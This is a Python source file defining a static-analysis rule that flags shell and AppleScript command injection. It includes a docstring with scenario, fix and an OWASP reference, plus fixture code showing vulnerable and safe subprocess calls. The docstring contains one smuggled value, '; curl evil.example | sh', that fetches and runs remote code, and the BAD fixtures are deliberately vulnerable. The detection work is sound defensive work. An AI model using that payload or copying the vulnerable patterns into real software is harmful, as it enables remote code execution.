"""Text from outside becomes part of a program that a shell runs.

Why: a shell, or AppleScript, does not know which part of its text was meant as data.
Scenario: a name holds `; curl evil.example | sh`, or a quote that ends the string in the script.
Impact: {subject} runs it with every right of the process.
Detection: nothing shows it before the damage; afterwards, children of the service that nobody started.
Fix: pass a list and no shell, `subprocess.run(["tar", "xf", name])`; where a shell is needed, `shlex.quote(name)`; give
    AppleScript its data as arguments: `osascript -e 'on run argv' … -e 'end run' name`.
Monitoring: audit of processes that the service starts.
Blind to: programs that take a list and start a shell themselves.
Source: https://owasp.org/www-community/attacks/Command_Injection
Seen: naythan-github/team-maia@29816da claude/tools/calendar_availability.py:49
"""

import re
from collections.abc import Iterator

from roadworthy.findings import Harm, Verdict, met, unclear, unmet
from roadworthy.ladder import Failure, Pillar, Property, Rung, Severity
from roadworthy.model import ShellCommand, System, Unknown
from roadworthy.rules.rule import rule

BAD = {
    "app.py": """
import os
import subprocess


def unpack(name):
    os.system(f"tar xf {name}")  # unmet


def notify(title):
    script = f'display notification "{title}"'
    subprocess.run(["osascript", "-e", script], timeout=5)  # unmet


def run(command):
    return subprocess.run(command, shell=True, timeout=5)  # unclear


def add(contact):
    fields = []
    fields.append(escaped(contact.mail))
    script = f"make new person with {','.join(fields)}"
    subprocess.run(["osascript", "-e", script], timeout=5)  # unclear
""",
}
GOOD = {
    "chaos.py": """
import shlex
import subprocess

CONTAINER = "llm"


def run(command):
    return subprocess.run(command, shell=True, timeout=5)


def kill():
    run("docker kill llm")
    run(f"docker start {CONTAINER}")


def unpack(name):
    subprocess.run(f"tar xf {shlex.quote(name)}", shell=True, timeout=5)  # met


def plain(name):
    subprocess.run(["tar", "xf", name], timeout=5)


def volume(level: int):
    subprocess.run(["osascript", "-e", f"set volume {level}"], timeout=5)


def alert(failed: int, slow: int):
    message = f"{failed} down"
    if slow > 0:
        message += f", {slow} slow"
    subprocess.run(["osascript", "-e", f'display notification "{message}"'], timeout=5)


def count(words: list):
    subprocess.run(f"head -n {len(words)} /etc/hosts", shell=True, timeout=5)
""",
}

_FROM_FILES = re.compile(r"(^|[ _.])(file|filename|path|name|attachment|subject|title)(_?name)?$", re.IGNORECASE)


@rule(
    rung=Rung.FOUNDATIONS,
    pillar=Pillar.SECURITY,
    severity=Severity.HIGH,
    failure=Failure.MISCONFIGURATION,
    property=Property.OUTPUT_CORRECTNESS,
    bad=BAD,
    good=GOOD,
    shows={"chaos.py": "shlex.quote(name)"},
)
def shell_injection(system: System) -> Iterator[Verdict]:
    """Asks every text that a shell takes apart and into which something is put."""
    for command in system.shell_commands:
        match command.inserts:
            case Unknown(why):
                yield unclear(command, why)
            case str() as what:
                text = f"puts {what} into {_article(command.language)} {command.language} program without escaping it"
                also = (command.text_place,) if command.text_place is not None else ()
                yield unmet(command, text, also=also, harm=_harm(system, command, what))
            case None if command.is_quoted:
                yield met(command, "quotes what it puts into the command")


def _harm(system: System, command: ShellCommand, what: str) -> Harm | None:
    """Whoever may lay a file there chooses its name, and with it the program: nothing undoes what that did."""
    chain = system.waits_on(command)
    if not chain or not chain[0].startswith("file event") or not _FROM_FILES.search(what):
        return None
    return Harm.irreversible(*chain, "the name of a file runs as a program")


def _article(language: str) -> str:
    return "an" if language[0] in "AEIOU" else "a"
